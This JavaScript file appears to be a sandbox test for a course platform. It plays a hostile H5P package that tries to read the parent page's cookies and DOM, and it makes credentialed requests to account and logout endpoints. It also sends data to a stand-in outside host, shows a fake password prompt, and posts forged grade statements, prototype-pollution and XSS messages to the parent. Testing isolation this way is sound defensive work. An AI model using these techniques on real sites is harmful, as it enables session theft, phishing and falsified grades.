// What a package might try once it runs. Each says what came of it: the name of what refused it, or what it got.
H5P.Steps = function () {
  this.attach = () => {};
};

const REFUSED = "refused";
const { elsewhere, site, block } = WHERE;

function read(get) {
  try {
    const got = get();
    return got === undefined || got === null || got === "" ? "nothing" : `got ${String(got).slice(0, 60)}`;
  } catch (error) {
    return error.name;
  }
}

const asked = (url, options) =>
  fetch(url, options).then(
    (answer) => `got ${answer.status}`,
    () => REFUSED,
  );

const loads = (make) =>
  new Promise((resolve) => {
    const element = make();
    element.onload = () => resolve("got it");
    element.onerror = () => resolve(REFUSED);
    document.body.append(element);
    setTimeout(() => resolve("nothing"), 1500);
  });

const element = (name, values) => Object.assign(document.createElement(name), values);

const opens = (make) =>
  new Promise((resolve) => {
    try {
      const socket = make();
      socket.onopen = socket.onmessage = () => resolve("got it");
      socket.onerror = () => resolve(REFUSED);
    } catch (error) {
      resolve(error.name);
    }
    setTimeout(() => resolve("nothing"), 1500);
  });

const fetched = (promise) =>
  Promise.resolve()
    .then(promise)
    .then(
      () => "got it",
      (error) => error.name,
    );

const form = { method: "POST", credentials: "include", body: new URLSearchParams({ said: "marked" }) };

const PROBES = {
  "parent's document": () => read(() => parent.document.title),
  "parent's DOM": () => read(() => (parent.document.body.textContent = "pwned")),
  "parent's variable": () => read(() => parent.probes || parent.location.href),
  "top's document": () => read(() => top.document.body),
  "frame element": () => read(() => frameElement),
  cookie: () => read(() => document.cookie),
  "set a cookie": () => read(() => ((document.cookie = "session=pwned"), document.cookie)),
  "stored things": () => read(() => localStorage.getItem("anything")),
  databases: () => fetched(() => new Promise((yes, no) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = yes;
    asked.onerror = () => no(asked.error);
  })),
  caches: () => fetched(() => caches.open("x")),
  "service worker": () => fetched(() => navigator.serviceWorker.register("sw.js")),
  "our page": () => asked(`${site}/en/account/`, { credentials: "include" }),
  "our page, without asking": () => asked(`${site}/en/account/`, { mode: "no-cors", credentials: "include" }),
  "our verb": () => asked(`${site}/en/courses/-/x/first/l1/said/${block}/`, { ...form, mode: "no-cors" }),
  "leaving for them": () => asked(`${site}/exit/`, { mode: "no-cors", credentials: "include" }),
  "fetch elsewhere": () => asked(`${elsewhere}/fetch`),
  "fetch elsewhere, without asking": () => asked(`${elsewhere}/no-cors`, { mode: "no-cors" }),
  beacon: () => read(() => navigator.sendBeacon(`${elsewhere}/beacon`, "x") && null),
  picture: () => loads(() => element("img", { src: `${elsewhere}/picture` })),
  script: () => loads(() => element("script", { src: `${elsewhere}/script.js` })),
  "style sheet": () => loads(() => element("link", { rel: "stylesheet", href: `${elsewhere}/style.css` })),
  prefetch: () => loads(() => element("link", { rel: "prefetch", href: `${elsewhere}/prefetch` })),
  "page in a page": () => loads(() => element("iframe", { src: `${elsewhere}/frame` })).then((came) => "nothing"),
  object: () => loads(() => element("object", { data: `${elsewhere}/object` })),
  sound: () => loads(() => element("audio", { src: `${elsewhere}/sound`, autoplay: true })),
  socket: () => opens(() => new WebSocket(elsewhere.replace("http", "ws"))),
  events: () => opens(() => new EventSource(`${elsewhere}/events`)),
  worker: () => opens(() => new Worker(`${elsewhere}/worker.js`)),
  form: () => read(() => {
    const sent = element("form", { action: `${elsewhere}/form`, method: "post" });
    document.body.append(sent);
    sent.submit();
  }),
  "form to our site": () => read(() => {
    const sent = element("form", { action: `${site}/en/account/logout/`, method: "post", target: "_top" });
    document.body.append(sent);
    sent.submit();
  }),
  popup: () => read(() => window.open(`${elsewhere}/popup`)),
  top: () => read(() => void (top.location = `${elsewhere}/top`)),
  "link to the top": () => read(() => {
    const link = element("a", { href: `${elsewhere}/link`, target: "_top" });
    document.body.append(link);
    link.click();
  }),
  question: () => read(() => (prompt("Your password?"), null)),
  "camera and microphone": () => fetched(() => navigator.mediaDevices.getUserMedia({ audio: true })),
  place: () => fetched(() => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, () => no(new DOMException("no", "NotAllowedError"))))),
};

const FORGED = [
  { activity: 1, type: "statement", data: JSON.stringify({
    actor: { mbox: "mailto:another@example.org" },
    verb: { id: "http://adlnet.gov/expapi/verbs/passed" },
    object: { id: `urn:uuid:${block}` },
    result: { score: { scaled: 1 } },
  }) },
  { activity: 1, type: "constructor", data: "x" },
  { activity: 1, type: "__proto__", data: { polluted: "pwned" } },
  { activity: 1, type: { toString: () => "statement" }, data: "x" },
  { activity: 1, type: "state", data: { key: "__proto__", text: "pwned" } },
  { activity: 1, type: "state", data: { key: {}, text: [] } },
  { activity: 1, type: "height", data: "1e9" },
  { activity: 1, type: "failed", data: "<img src=x onerror=alert(1)>" },
  { activity: 2, type: "statement", data: "x" },
  null,
  "x",
];

async function attack() {
  const probes = {};
  for (const [name, probe] of Object.entries(PROBES)) probes[name] = await probe();
  for (const forged of FORGED) {
    try {
      parent.postMessage(forged, "*");
    } catch {
      // A function can't be sent.
    }
  }
  parent.postMessage({ probes }, "*");
  // Going away with what was learned comes last: it would end this page.
  setTimeout(() => (location = `${elsewhere}/self?leak`), 100);
}

attack();
